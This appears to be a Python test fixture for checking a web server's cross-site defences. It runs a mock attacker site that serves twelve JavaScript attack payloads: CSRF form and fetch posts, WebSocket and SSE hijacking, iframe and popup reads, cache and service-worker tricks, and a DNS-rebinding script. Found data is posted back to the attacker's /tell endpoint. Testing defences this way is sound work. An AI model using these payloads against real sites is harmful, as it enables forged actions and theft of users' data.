"""A web site that wants something from the page: twelve attempts, and what it was told by those that worked."""

from __future__ import annotations

import urllib.parse
from collections.abc import Iterator
from contextlib import closing, contextmanager

from servers import Asked, Said, WebServer

# Each runs in a page of the attacker's, with T as the address of its victim; `tell` brings home what was found.
TELL = "const told = []; const tell = (what) => told.push(fetch('/tell', {method: 'POST', body: String(what)}));"
ATTACKS = {
    "rebind": "",  # the attacker's name leads to the victim itself; see `REBOUND`
    "form": "const f = document.createElement('form'); f.method = 'POST'; f.action = T + '/do';"
    "f.innerHTML = '<input name=act value=on>'; document.body.append(f); f.submit();"
    "await new Promise(() => 0);",  # done when the victim's answer has taken the place of this page
    "plain": "await fetch(T + '/do', {method: 'POST', mode: 'no-cors', credentials: 'include', body: 'act=on'})",
    "img": "const i = new Image(); i.src = T + '/do?act=on'; await new Promise((ok) => i.onerror = i.onload = ok);",
    "websocket": "const w = new WebSocket(T.replace('http', 'ws') + '/live');"
    "await new Promise((ok) => { w.onmessage = (m) => { tell(m.data); ok(); }; w.onerror = w.onclose = ok; });",
    "iframe": "const f = document.createElement('iframe'); f.src = T + '/'; document.body.append(f);"
    "await new Promise((ok) => f.onload = ok); try { tell(f.contentDocument.body.innerText); } catch {}",
    "sse": "const s = new EventSource(T + '/live', {withCredentials: true});"
    "await new Promise((ok) => { s.onmessage = (m) => { tell(m.data); ok(); }; s.onerror = ok; }); s.close();",
    "read": "tell(await (await fetch(T + '/', {credentials: 'include'})).text());",
    "cache": "await fetch(T + '/', {mode: 'no-cors', credentials: 'include', cache: 'force-cache'});"
    "tell(await (await fetch(T + '/', {credentials: 'include', cache: 'force-cache'})).text());",
    "service worker": "await navigator.serviceWorker.register(T + '/static/page.js');"
    "tell(await (await fetch(T + '/')).text());",
    "popup": "const w = open(T + '/'); await new Promise((ok) => setTimeout(ok, 300));"
    "try { tell(w.document.body.innerText); } catch {} w?.close();",
    "upload": "const d = new FormData(); d.append('act', 'on'); d.append('file', new Blob(['x']), 'x.html');"
    "await fetch(T + '/do', {method: 'POST', mode: 'no-cors', credentials: 'include', body: d});",
}
# What the attacker's script does once its own name leads to the victim: to the browser, both are one site.
REBOUND = """(async () => {
    const text = await (await fetch("/", {credentials: "include"})).text();
    const headers = {"Content-Type": "application/x-www-form-urlencoded"};
    await fetch("/do", {method: "POST", headers, body: "act=on"});
    return text;
})()"""


class Attacker:
    """What came home, and the Referers with which browsers came."""

    def __init__(self) -> None:
        self.told: list[str] = []
        self.referers: list[str] = []
        self.port = 0
        self.victim = ""

    def answer(self, asked: Asked) -> Said:
        html = {"Content-Type": "text/html"}
        if asked.method == "POST":
            self.told.append(asked.body.decode("utf-8", "replace"))
            return Said(headers=html)
        self.referers.append(asked.headers.get("Referer", ""))
        attack = ATTACKS.get(urllib.parse.unquote(asked.path[1:]), "")
        page = (
            f"<!doctype html><body><script>const T = {self.victim!r}; {TELL} (async () => {{ {attack} }})()"
            ".catch(() => 0).then(() => Promise.all(told)).then(() => { document.title = 'done' })</script>"
        )
        return Said(page.encode(), headers=html)


@contextmanager
def attacker_site() -> Iterator[Attacker]:
    attacker = Attacker()
    with closing(WebServer(attacker.answer)) as server:
        attacker.port = server.port
        yield attacker
